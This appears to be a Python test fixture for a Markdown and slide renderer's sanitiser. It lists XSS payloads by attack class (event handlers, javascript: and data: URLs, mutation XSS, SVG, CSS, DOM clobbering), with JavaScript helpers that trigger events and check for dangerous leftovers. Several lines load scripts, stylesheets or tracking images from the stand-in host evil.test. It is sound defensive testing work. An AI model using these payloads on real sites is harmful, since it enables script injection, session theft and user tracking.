"""What has run scripts in Markdown renderers and sanitisers: a list of our own, by class of attack.

Each payload calls `xss()` if it runs. NOT_CLOSED ones swallow what follows them in a Markdown text.
"""

EVENT_HANDLERS = [
    "<img src=x onerror=xss()>",
    "<img src=x oNeRrOr=xss()>",
    "<img/src=x/onerror=xss()>",
    "<img src=x onerror\n=\nxss()>",
    '<img src="x" """ onerror="xss()">',
    "<img src=x:x onerror=xss()//",
    "<img src=`x`onerror=xss()>",
    "<IMG SRC=x OnErRoR=&#120;ss()>",
    "<body onload=xss()>",
    "<p onmouseover=xss() onclick=xss() onpointerenter=xss() onfocus=xss() tabindex=0>hover</p>",
    "<details open ontoggle=xss()><summary>s</summary></details>",
    "<video src=x onerror=xss()></video>",
    "<video><source onerror=xss() src=x></video>",
    "<audio src=x onerror=xss() autoplay></audio>",
    "<video poster=javascript:xss() onloadstart=xss()></video>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()><option>a</select>",
    "<marquee onstart=xss()>m</marquee>",
    "<div style='animation:breathe 1s' onanimationstart=xss()>a</div>",
    "<div popover id=p onbeforetoggle=xss()>p</div><button popovertarget=p>b</button>",
    "<object data=x onerror=xss()></object>",
    "<img src=x onerror=eval(atob('eHNzKCk='))>",
    "<a onclick=xss() href=#>click</a>",
    "<table background=javascript:xss()><td onclick=xss()>t</td></table>",
]
ADDRESSES = [
    "[a](javascript:xss())",
    "[a](JaVaScRiPt:xss())",
    "[a](&#106;avascript:xss())",
    "[a](java&#x0A;script:xss())",
    "[a](<java\tscript:xss()>)",
    "[a]( javascript:xss())",
    "[a](\x01javascript:xss())".replace("\x01", "&#1;"),
    "[a](vbscript:xss())",
    "[a](data:text/html,<script>parent.xss()</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=)",
    "<javascript:xss()>",
    "[a][x]\n\n[x]: javascript:xss()",
    "[a][y]\n\n[y]: <javascript:xss()> 'title'",
    "![a](javascript:xss())",
    "![a](data:text/html,<script>xss()</script>)",
    "![a](data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='xss()'/%3E)",
    "<a href='javascript:xss()'>a</a>",
    "<a href=' &#14; javascript:xss()'>a</a>",
    "<a href='javas&Tab;cript:xss()'>a</a>",
    "<a href=javascript&colon;xss()>a</a>",
    "<a href=//evil.test/ ping=//evil.test/p target=_self>a</a>",
    "<iframe src=javascript:xss()></iframe>",
    "<embed src=javascript:xss()>",
    "<object data=javascript:xss()></object>",
    "<form action=javascript:xss()><button>go</button></form>",
    "<button formaction=javascript:xss()>go</button>",
    "<img src=//evil.test/track.png>",
    "![t](http://evil.test/track.png)",
    "<img srcset='//evil.test/a.png 1x'>",
    "<video poster=//evil.test/p.png></video>",
    "<picture><source srcset=//evil.test/s.png><img></picture>",
]
MARKDOWN_TRICKS = [
    '![a](x"onerror="xss())',
    '![a" onerror="xss()](x)',
    "![a](x 'title\" onerror=\"xss()')",
    '[a](x "t" onmouseover="xss()")',
    "[a](x){onclick=xss()}",
    '![a](x){onerror=xss() width="1\\" onerror=xss() x=\\""}',
    "![a](x){width='\"><img src=x onerror=xss()>'}",
    '![a](/media/ab/x.mp4"onerror=xss())',
    "![<img src=x onerror=xss()>](/media/ab/x.mp4)",
    '![" onerror="xss()](/media/ab/x.mp3)',
    "![a](/media/../../x.png)",
    "```<script>xss()</script>\ncode\n```",
    '```x"><img/src=x/onerror=xss()>\ncode\n```',
    "`<img src=x onerror=xss()>`",
    '<https://x.test/"onmouseover=xss()>',
    '::: x" onclick="xss()\ntext\n:::',
    "::: {.box onclick=xss()}\ntext\n:::",
    '* a <!-- .element: onclick="xss()" class="fragment" -->',
    '* a <!-- .element: style="background:url(javascript:xss())" -->',
    '* a <!-- .element: class="x" onmouseover="xss()" href="javascript:xss()" -->',
    "text <!-- .element: class='fragment' data-fragment-index='0\" onclick=xss()' -->",
    "| a <img src=x onerror=xss()> |\n| --- |\n| <img src=x onerror=xss()> |",
    "> <img src=x onerror=xss()>",
    "# <img src=x onerror=xss()> (1/2)",
    "**<img src=x onerror=xss()>**",
    "> **<img src=x onerror=xss()>**",
    "Term\n: <img src=x onerror=xss()>",
]
SVG_AND_MATH = [
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><script href=data:text/javascript,xss()></script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    "<svg><a><animate attributeName=href values=javascript:xss() /><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=xss() /></svg>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=xss()></svg>",
    "<math href=javascript:xss()>CLICK</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>",
    "<svg><style><img src=x onerror=xss()></style></svg>",
    "<svg><title><img src=x onerror=xss()></title></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=xss()>]]></desc></svg>",
]
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<svg></p><style><a id='</style><img src=1 onerror=xss()>'>",
    "<math><annotation-xml encoding='text/html'><p><style><img title='</style><img src onerror=xss()>'></annotation-xml></math>",
    "<svg><annotation-xml><foreignobject><style><!--</style><p id='--><img src=x onerror=xss()>'>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'></noscript>",
    "<p><listing>&lt;img src=x onerror=xss()&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=xss()>'></xmp>",
    "<table><tr><td><math><mi><table><mi><style><img title='</style><img src onerror=xss()>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror=xss()>'>",
    "<a><a><a><b><div><table><a><svg><style><img title='</style><img src=x onerror=xss()>'>",
    "<div><p title='`<img src=x onerror=xss()>`'>`</div>",
    "<img alt='`<' src=x title='>`<img src=x onerror=xss()>'>",
    "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=xss() src=1>'>",
]
STYLES = [
    "<style>*{background:url(//evil.test/css)}</style>",
    "<style>@import '//evil.test/i.css';</style>",
    "<p style='background:url(//evil.test/b)'>b</p>",
    "<p style='background-image:u\\72l(//evil.test/b2)'>b</p>",
    "<p style='width:expression(xss())'>e</p>",
    "<p style='color:red;background:url(&quot;javascript:xss()&quot;)'>c</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>over the page</p>",
    "<p style='border:1px solid;border-image:url(//evil.test/bi) 1'>b</p>",
    "<link rel=stylesheet href=//evil.test/l.css>",
    "<p style='color:red/*;*/;-moz-binding:url(//evil.test/x)'>m</p>",
]
FRAMES_AND_REST = [
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.xss()&lt;/script&gt;></iframe>",
    "<iframe src=data:text/html,<script>parent.xss()</script>></iframe>",
    "<iframe src=//evil.test/frame></iframe>",
    "<object data='data:text/html,<script>parent.xss()</script>'></object>",
    "<embed src='data:text/html,<script>parent.xss()</script>'>",
    "<frameset onload=xss()><frame src=javascript:xss()></frameset>",
    "<portal src=javascript:xss()></portal>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/><img src=x.png>",
    "<template shadowrootmode=open><img src=x onerror=xss()></template>",
    "<div><template shadowrootmode=open><slot onslotchange=xss()></slot></template></div>",
    "<isindex type=image src=1 onerror=xss()>",
    "<x-y onclick=xss()>custom</x-y>",
    "<div is=x-y data-a='<img src=x onerror=xss()>'>d</div>",
    "<dialog open onclose=xss()><form method=dialog><button>ok</button></form></dialog>",
]
CLOBBERING = [
    "<img id=app name=app>",
    "<form id=document><input name=cookie></form>",
    "<a id=config href=//evil.test/></a><a id=config name=api href=//evil.test/></a>",
    "<form name=body><input id=firstElementChild></form>",
    "<img name=getElementById>",
    "<iframe name=localStorage></iframe>",
    "<form><input name=attributes><input name=parentNode></form>",
    "<a id=editor-hint>x</a>",
]
NOT_CLOSED = [
    "<script>xss()",
    "<script>xss()</script>",
    "<script src=//evil.test/s.js></script>",
    "<script type=module>xss()</script>",
    "<SCRIPT/x>xss()</SCRIPT>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<!--><img src=x onerror=xss()>-->",
    "<!-- --!><img src=x onerror=xss()> -->",
    '<!--<img src="--><img src=x onerror=xss()//">',
    "<![CDATA[<img src=x onerror=xss()>]]>",
    "<?php <img src=x onerror=xss()> ?>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=xss()>'>]>",
    "<textarea><img title='</textarea><img src=x onerror=xss()>'>",
    "<title><img title='</title><img src=x onerror=xss()>'>",
    "<style><img title='</style><img src=x onerror=xss()>'>",
    "<noembed><img title='</noembed><img src=x onerror=xss()>'>",
    "<noframes><img title='</noframes><img src=x onerror=xss()>'>",
    "<plaintext><img src=x onerror=xss()>",
    "<pre>\n\n<img src=x onerror=xss()>",
    "<div><img src='x\n\n' onerror=xss()>",
]

CLOSED = [
    *EVENT_HANDLERS,
    *ADDRESSES,
    *MARKDOWN_TRICKS,
    *SVG_AND_MATH,
    *MUTATIONS,
    *STYLES,
    *FRAMES_AND_REST,
    *CLOBBERING,
]

INIT = """
window.executed = 0;
window.xss = () => { try { top.executed += 1; } catch { window.executed += 1; } };
window.alert = window.prompt = window.confirm = window.xss;
"""
"""Put into every page and frame before anything else."""

PROVOKE = """() => {
    const events = ['click', 'mouseover', 'mouseenter', 'pointerenter', 'focus', 'error', 'load', 'toggle', 'beforetoggle',
        'animationstart', 'transitionend', 'slotchange', 'begin', 'start', 'close'];
    for (const element of document.querySelectorAll(':is(.slide-body, [data-testid=notes]) *')) {
        for (const type of events) element.dispatchEvent(new Event(type, { bubbles: false }));
    }
}"""
"""What a person or time might set off; links are not followed but looked at."""

LEFTOVERS = """() => {
    const faults = [];
    const bodies = ':is(.slide-body, [data-testid=notes])';
    for (const element of document.querySelectorAll(`${bodies} *`)) {
        for (const { name, value } of element.attributes) {
            if (/^on/i.test(name) || ['id', 'name', 'srcdoc', 'formaction', 'action', 'ping'].includes(name)) {
                faults.push(element.outerHTML.slice(0, 200));
            }
            if (['href', 'src', 'poster', 'data', 'xlink:href'].includes(name)
                && !/^(https?:|\\/media\\/|data:image\\/)/i.test(value)) faults.push(element.outerHTML.slice(0, 200));
        }
        if (/^(script|style|iframe|object|embed|form|input|button|link|meta|base|svg|math|template|dialog)$/i.test(element.tagName)) {
            faults.push(element.outerHTML.slice(0, 200));
        }
        const look = getComputedStyle(element);
        if (look.position === 'fixed' && !element.closest('.ink')) faults.push(element.outerHTML.slice(0, 200));
    }
    return faults;
}"""
"""What may not be left of a payload, whether or not it runs in this browser."""
